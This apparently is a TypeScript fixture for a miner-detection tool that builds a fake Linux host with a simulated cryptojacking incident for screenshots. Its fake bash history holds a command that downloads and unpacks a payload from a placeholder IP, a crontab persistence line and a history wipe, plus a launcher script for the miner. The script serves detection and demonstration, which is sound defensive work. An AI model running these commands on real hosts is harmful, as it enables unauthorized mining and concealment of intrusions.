// A fixed, fake host for `npm run screenshots`: a /proc tree and a file-system root in a temp dir that
// reproduce the incident (user abc's `/bin/sh ./sshd` launcher and its `rcu-sched` miner, restarted by
// abc's crontab) next to an ordinary Debian host (systemd, kernel threads, sshd with a dev's login
// session, cron, a node service). `minewatch --proc <fixture>/proc --root <fixture>/root` reads it like
// the real thing; nothing here runs, so nothing can be signalled.
//
// The files are written by the one fake-/proc builder (src/procfs/fake.ts: the same stat/status/cmdline/
// cgroup/environ/exe/cwd that the reader needs), plus fd/ and net/tcp for the miner so the inspector shows its pool connection.
// The miner's CPU time advances while the fixture is "running" (see FixtureHost.startCpu), so the
// dashboard shows it busy: CPU % needs utime deltas between two ticks.
//
// The base directory has a fixed name, so paths are the same on every run (no random suffix); it is
// only ever removed when it holds our marker file.

import {
  chmodSync, chownSync, closeSync, existsSync, lstatSync, mkdirSync, openSync, rmSync, symlinkSync,
  utimesSync, writeFileSync, writeSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { PF_KTHREAD, statLine, writeProc as writeProcFiles, type FakeProc } from '../src/procfs/fake';

const MARKER = '.minewatch-screenshot-fixture';
/** Boot time of the fake host (2025-03-05 08:00:00 UTC) and its clock ticks per second. */
const BTIME = 1741161600;
const HZ = 100;
/** Seconds since boot when the fixture is created; start times below are ticks since boot. */
const UPTIME_S = 4 * 3600 + 17 * 60;
/** Fixed file times: the crontab was written shortly before the screenshots' "now" is irrelevant. */
const FILE_TIME = new Date('2025-03-05T10:41:00Z');

const SYS = (unit: string) => `0::/system.slice/${unit}`;
const DEV_SESSION = '0::/user.slice/user-1002.slice/session-4.scope';
const ABC_SESSION = '0::/user.slice/user-1001.slice/session-7.scope';
const KERNEL: Partial<FakeProc> = { ppid: 2, uid: 0, flags: PF_KTHREAD, exe: null, cwd: '/', cmdline: [], cgroup: '0::/' };

export const MINER_PID = 48213;
export const LAUNCHER_PID = 48197;
export const MINER_ARGS = ['./rcu-sched', '-o', 'stratum+tcp://pool.minexmr.example:3333', '--donate-level=1', '-a', 'rx/0'];
export const CRON_LINE = '*/5 * * * * cd /home/abc/.x && ./sshd >/dev/null 2>&1';
/** Miner threads and its CPU use while the fixture runs (per cent of one CPU). */
const MINER_THREADS = 4;
const MINER_CPU = 386;
const NCPU = 4;

function procs(): FakeProc[] {
  const ticks = (sec: number) => Math.round(sec * HZ);
  return [
    { pid: 1, comm: 'systemd', ppid: 0, uid: 0, cmdline: ['/sbin/init'], exe: '/usr/lib/systemd/systemd', cwd: '/', cgroup: '0::/init.scope', startTicks: 9, utime: 412, stime: 388, rssPages: 3150 },
    { ...KERNEL, pid: 2, comm: 'kthreadd', ppid: 0, startTicks: 9 },
    { ...KERNEL, pid: 3, comm: 'rcu_gp', startTicks: 9 },
    { ...KERNEL, pid: 14, comm: 'rcu_sched', startTicks: 10, stime: 912 },
    { ...KERNEL, pid: 15, comm: 'migration/0', startTicks: 10 },
    { ...KERNEL, pid: 21, comm: 'ksoftirqd/1', startTicks: 10, stime: 140 },
    { ...KERNEL, pid: 88, comm: 'kswapd0', startTicks: 12 },
    { ...KERNEL, pid: 2261, comm: 'kworker/1:2-events', startTicks: ticks(9000) },
    { pid: 301, comm: 'systemd-journal', uid: 0, cmdline: ['/lib/systemd/systemd-journald'], exe: '/usr/lib/systemd/systemd-journald', cgroup: SYS('systemd-journald.service'), startTicks: 180, rssPages: 4100 },
    { pid: 598, comm: 'cron', uid: 0, cmdline: ['/usr/sbin/cron', '-f'], exe: '/usr/sbin/cron', cgroup: SYS('cron.service'), startTicks: 420, rssPages: 700 },
    { pid: 611, comm: 'sshd', uid: 0, cmdline: ['sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups'], exe: '/usr/sbin/sshd', cgroup: SYS('ssh.service'), startTicks: 430, rssPages: 2300 },
    { pid: 905, comm: 'node', uid: 998, cmdline: ['/usr/bin/node', '/srv/app/server.js'], exe: '/usr/bin/node', cwd: '/srv/app', cgroup: SYS('app.service'), startTicks: 520, threads: 11, utime: 53100, stime: 4100, rssPages: 21500 },
    { pid: 1873, comm: 'sshd', ppid: 611, uid: 0, cmdline: ['sshd: dev [priv]'], exe: '/usr/sbin/sshd', cgroup: DEV_SESSION, startTicks: ticks(7200), rssPages: 2500 },
    { pid: 1880, comm: 'sshd', ppid: 1873, uid: 1002, cmdline: ['sshd: dev@pts/0'], exe: '/usr/sbin/sshd', cgroup: DEV_SESSION, startTicks: ticks(7200), rssPages: 1800 },
    { pid: 1881, comm: 'bash', ppid: 1880, uid: 1002, ttyNr: 34816, session: 1881, cmdline: ['-bash'], exe: '/usr/bin/bash', cwd: '/home/dev', cgroup: DEV_SESSION, startTicks: ticks(7201), rssPages: 1300 },
    { pid: 2214, comm: 'vim', ppid: 1881, uid: 1002, ttyNr: 34816, session: 1881, cmdline: ['vim', 'server.js'], exe: '/usr/bin/vim.basic', cwd: '/srv/app', cgroup: DEV_SESSION, startTicks: ticks(8100), rssPages: 2900 },
    // The incident: started by hand in abc's SSH session, then detached (parent PID 1).
    {
      pid: LAUNCHER_PID, comm: 'sshd', ppid: 1, uid: 1001, session: LAUNCHER_PID, cmdline: ['/bin/sh', './sshd'],
      exe: '/usr/bin/dash', cwd: '/home/abc/.x', cgroup: ABC_SESSION, startTicks: ticks(UPTIME_S - 1460), rssPages: 150,
      environ: ['PATH=/usr/local/bin:/usr/bin:/bin', 'HOME=/home/abc', 'USER=abc', 'PWD=/home/abc/.x'],
    },
    {
      pid: MINER_PID, comm: 'rcu-sched', ppid: LAUNCHER_PID, uid: 1001, session: LAUNCHER_PID, threads: MINER_THREADS,
      cmdline: MINER_ARGS, exe: '/home/abc/.x/rcu-sched', cwd: '/home/abc/.x', cgroup: ABC_SESSION,
      startTicks: ticks(UPTIME_S - 1458), utime: 1_000_000, stime: 2_400, rssPages: 587_000,
      environ: ['PATH=/usr/local/bin:/usr/bin:/bin', 'HOME=/home/abc', 'USER=abc', 'PWD=/home/abc/.x'],
    },
  ];
}

const PASSWD = [
  'root:x:0:0:root:/root:/bin/bash',
  'daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin',
  'sshd:x:100:65534::/run/sshd:/usr/sbin/nologin',
  'abc:x:1001:1001:abc:/home/abc:/bin/bash',
  'dev:x:1002:1002:Dev Eloper,,,:/home/dev:/bin/bash',
  'app:x:998:998:node app:/srv/app:/usr/sbin/nologin',
  'nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin',
];

const GROUP = ['root:x:0:', 'sudo:x:27:dev', 'abc:x:1001:', 'dev:x:1002:', 'app:x:998:', 'nogroup:x:65534:'];

const OS_RELEASE = `PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"
NAME="Debian GNU/Linux"
VERSION_ID="12"
VERSION="12 (bookworm)"
VERSION_CODENAME=bookworm
ID=debian
`;

const LAUNCHER_SCRIPT = `#!/bin/sh
# keep the worker alive
cd "$(dirname "$0")"
pgrep -x rcu-sched >/dev/null 2>&1 && exit 0
exec ./rcu-sched -o stratum+tcp://pool.minexmr.example:3333 --donate-level=1 -a rx/0
`;

/** A small, fixed stand-in for the miner binary: an ELF header and the strings an xmrig build carries. */
function minerBinary(): Buffer {
  const elf = Buffer.alloc(64);
  elf.write('\x7fELF', 0, 'latin1');
  elf[4] = 2; // 64-bit
  elf[5] = 1; // little endian
  elf[6] = 1;
  elf.writeUInt16LE(2, 16); // executable
  elf.writeUInt16LE(62, 18); // x86-64
  elf.writeUInt32LE(1, 20);
  const strings = [
    'XMRig 6.21.0', 'stratum+tcp://', 'randomx', 'rx/0', '--donate-level', 'cryptonight', 'donate.v2.xmrig.com',
    'pool.minexmr.example:3333', 'huge pages', 'nicehash',
  ].join('\0');
  const body = Buffer.alloc(96 * 1024);
  for (let i = 0; i < body.length; i++) body[i] = (i * 2654435761) >>> 24; // deterministic filler
  return Buffer.concat([elf, body, Buffer.from(`\0${strings}\0`, 'latin1'), body.subarray(0, 4096)]);
}

/** /proc/net/tcp row: local 10.0.2.15:51834 -> 203.0.113.77:3333 ESTABLISHED, owned by uid 1001. */
function netTcp(inode: number): string {
  const ip = (a: string) => a.split('.').map(Number).reverse().map((n) => n.toString(16).toUpperCase().padStart(2, '0')).join('');
  const port = (p: number) => p.toString(16).toUpperCase().padStart(4, '0');
  return [
    '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode',
    `   0: ${ip('0.0.0.0')}:${port(22)} ${ip('0.0.0.0')}:0000 0A 00000000:00000000 00:00000000 00000000     0        0 18211 1 0000000000000000 100 0 0 10 0`,
    `   1: ${ip('10.0.2.15')}:${port(51834)} ${ip('203.0.113.77')}:${port(3333)} 01 00000000:00000000 02:000A1B2C 00000000  1001        0 ${inode} 1 0000000000000000 20 4 30 10 -1`,
    '',
  ].join('\n');
}

export interface FixtureHost {
  base: string;
  proc: string;
  root: string;
  /** Home directories (root/home), for a bind mount over /home when the runner can make one. */
  home: string;
  minerPid: number;
  launcherPid: number;
  /** Advance the miner's CPU time (and the host's) every 100 ms until stopCpu(). */
  startCpu(): void;
  stopCpu(): void;
  cleanup(): void;
}

/** The shared builder with this host's defaults: every process has a cgroup, user processes a PATH and LANG. */
function writeProc(proc: string, p: FakeProc): void {
  writeProcFiles(proc, {
    ...p,
    groups: p.groups ?? [p.uid ?? 0],
    cgroup: p.cgroup ?? '0::/',
    environ: p.flags === PF_KTHREAD ? [] : (p.environ ?? ['PATH=/usr/bin:/bin', 'LANG=C.UTF-8']),
  });
}

function put(root: string, rel: string, content: string | Buffer, mode = 0o644): string {
  const full = join(root, rel);
  mkdirSync(dirname(full), { recursive: true });
  writeFileSync(full, content);
  chmodSync(full, mode);
  utimesSync(full, FILE_TIME, FILE_TIME);
  return full;
}

/** The fixed base directory; removed first when a previous run left it (only if it carries our marker). */
export function fixtureBase(): string {
  return join(tmpdir(), 'minewatch-screenshot-fixture');
}

function removeOld(base: string): void {
  let st;
  try { st = lstatSync(base); } catch { return; }
  if (!st.isDirectory() || !existsSync(join(base, MARKER)) || (process.getuid && st.uid !== process.getuid())) {
    throw new Error(`${base} exists and is not a fixture of ours: remove it by hand`);
  }
  rmSync(base, { recursive: true, force: true });
}

export function createFixture(base = fixtureBase()): FixtureHost {
  removeOld(base);
  mkdirSync(base, { mode: 0o755 }); // fails if someone raced us to the name
  writeFileSync(join(base, MARKER), 'minewatch screenshot fixture; safe to delete\n');
  const proc = join(base, 'proc');
  const root = join(base, 'root');
  mkdirSync(proc);

  // Host-wide /proc files.
  const cpuLine = (busy: number, idle: number) => `cpu  ${String(busy).padStart(10, '0')} 0 0 ${String(idle).padStart(10, '0')} 0 0 0 0 0 0\n`;
  const hostStat = (busy: number, idle: number) => cpuLine(busy, idle)
    + Array.from({ length: NCPU }, (_, i) => `cpu${i} 1 0 0 1 0 0 0 0 0 0\n`).join('') + `btime ${BTIME}\n`;
  writeFileSync(join(proc, 'stat'), hostStat(1_000_000, 4_000_000));
  writeFileSync(join(proc, 'uptime'), `${UPTIME_S}.00 ${UPTIME_S * 3}.00\n`);
  writeFileSync(join(proc, 'loadavg'), '4.12 4.05 3.61 6/214 48213\n');
  writeFileSync(join(proc, 'meminfo'), 'MemTotal:        8148012 kB\nMemFree:          812344 kB\nMemAvailable:    3301288 kB\nSwapTotal:        999420 kB\nSwapFree:         999420 kB\n');
  mkdirSync(join(proc, 'sys/kernel'), { recursive: true });
  writeFileSync(join(proc, 'sys/kernel/hostname'), 'web-01\n');
  writeFileSync(join(proc, 'sys/kernel/osrelease'), '6.1.0-31-amd64\n');

  const all = procs();
  for (const p of all) writeProc(proc, p);
  const miner = all.find((p) => p.pid === MINER_PID)!;

  // The miner's open files: its binary's dir, /dev/null, a socket to the pool.
  const SOCK = 1_734_552;
  const fd = join(proc, String(MINER_PID), 'fd');
  mkdirSync(fd);
  symlinkSync('/dev/null', join(fd, '0'));
  symlinkSync('/dev/null', join(fd, '1'));
  symlinkSync('/dev/null', join(fd, '2'));
  symlinkSync(`socket:[${SOCK}]`, join(fd, '7'));
  mkdirSync(join(proc, String(MINER_PID), 'net'));
  writeFileSync(join(proc, String(MINER_PID), 'net', 'tcp'), netTcp(SOCK));
  writeFileSync(join(proc, String(MINER_PID), 'maps'), [
    '00400000-00a00000 r-xp 00000000 08:01 393221                             /home/abc/.x/rcu-sched',
    '7f3a40000000-7f3a80000000 rw-p 00000000 00:00 0 ',
    '7ffc1e2f0000-7ffc1e311000 rw-p 00000000 00:00 0                          [stack]',
    '',
  ].join('\n'));

  // The root file system.
  mkdirSync(root);
  put(root, 'etc/passwd', PASSWD.join('\n') + '\n');
  put(root, 'etc/group', GROUP.join('\n') + '\n');
  put(root, 'etc/hostname', 'web-01\n');
  put(root, 'etc/sudoers', 'Defaults\tenv_reset\nroot\tALL=(ALL:ALL) ALL\n%sudo\tALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n', 0o440);
  put(root, 'etc/os-release', OS_RELEASE);
  put(root, 'etc/crontab', 'SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n');
  const crontab = put(root, 'var/spool/cron/crontabs/abc', `# DO NOT EDIT THIS FILE - edit the master and reinstall.\n${CRON_LINE}\n`, 0o600);
  put(root, 'home/abc/.x/rcu-sched', minerBinary(), 0o755);
  put(root, 'home/abc/.x/sshd', LAUNCHER_SCRIPT, 0o755);
  put(root, 'home/abc/.bash_history', [
    'cd ~', 'mkdir -p .x && cd .x', 'curl -fsSL http://203.0.113.77/x.tgz | tar xz', 'chmod +x rcu-sched sshd',
    'nohup ./sshd >/dev/null 2>&1 &', '(crontab -l; echo "*/5 * * * * cd /home/abc/.x && ./sshd >/dev/null 2>&1") | crontab -', 'history -c', '',
  ].join('\n'), 0o600);
  put(root, 'home/dev/.bash_history', 'cd /srv/app\nvim server.js\n', 0o600);
  if (process.getuid?.() === 0) {
    // As `crontab -e` leaves it: owned by its user. (Unprivileged runs cannot chown: the persistence pane
    // then also says the crontab was not written by the crontab command.)
    chownSync(crontab, 1001, 1001);
    for (const f of ['home/abc/.x/rcu-sched', 'home/abc/.x/sshd', 'home/abc/.bash_history', 'home/abc/.x', 'home/abc']) chownSync(join(root, f), 1001, 1001);
  }

  let timer: NodeJS.Timeout | null = null;
  const statPath = join(proc, String(MINER_PID), 'stat');
  const hostStatPath = join(proc, 'stat');
  const overwrite = (file: string, text: string) => {
    // In place, same length: the reader keeps stat open and preads it, so the file must stay one inode.
    const f = openSync(file, 'r+');
    try { writeSync(f, text, 0); } finally { closeSync(f); }
  };
  return {
    base, proc, root, home: join(root, 'home'), minerPid: MINER_PID, launcherPid: LAUNCHER_PID,
    startCpu() {
      if (timer) return;
      const t0 = Date.now();
      const tick = () => {
        const elapsed = (Date.now() - t0) / 1000;
        const used = Math.round(elapsed * HZ * (MINER_CPU / 100));
        overwrite(statPath, statLine({ ...miner, utime: miner.utime! + used }));
        const busy = Math.round(elapsed * HZ * NCPU * 0.99);
        overwrite(hostStatPath, hostStat(1_000_000 + busy, 4_000_000 + Math.round(elapsed * HZ * NCPU) - busy));
      };
      tick();
      timer = setInterval(tick, 50);
    },
    stopCpu() {
      if (timer) clearInterval(timer);
      timer = null;
    },
    cleanup() {
      this.stopCpu();
      if (existsSync(join(base, MARKER))) rmSync(base, { recursive: true, force: true });
    },
  };
}

/** For a look by hand: `node --import tsx scripts/screenshot-fixture.ts` prints the paths and keeps it. */
if (process.argv[1] && import.meta.url.endsWith('/screenshot-fixture.ts') && process.argv[1].endsWith('screenshot-fixture.ts')) {
  const f = createFixture();
  console.log(`fixture at ${f.base}\n  node dist/minewatch.js --proc ${f.proc} --root ${f.root}\n(remove with rm -r ${f.base})`);
}
